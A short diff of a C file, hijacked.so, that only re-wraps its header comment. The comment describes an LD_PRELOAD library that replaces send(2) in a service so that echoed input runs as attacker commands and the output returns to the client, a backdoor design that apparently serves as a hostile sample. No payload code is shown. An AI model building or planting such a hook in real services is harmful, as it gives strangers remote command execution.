@@ -1,6 +1,6 @@
-/* hijacked.so: a superd-builtin that an attacker has in hand. Loaded into it by LD_PRELOAD, it takes the place of send(2): what
- * echo would send back is an order, and what became of it goes to the client. The orders are those of a stranger who found a
- * fault that lets him run code there. */
+/* hijacked.so: a superd-builtin that an attacker has in hand. Loaded into it by LD_PRELOAD, it takes the place of
+ * send(2): what echo would send back is an order, and what became of it goes to the client. The orders are those of
+ * a stranger who found a fault that lets him run code there. */
 #include <errno.h>
 #include <fcntl.h>
 #include <signal.h>
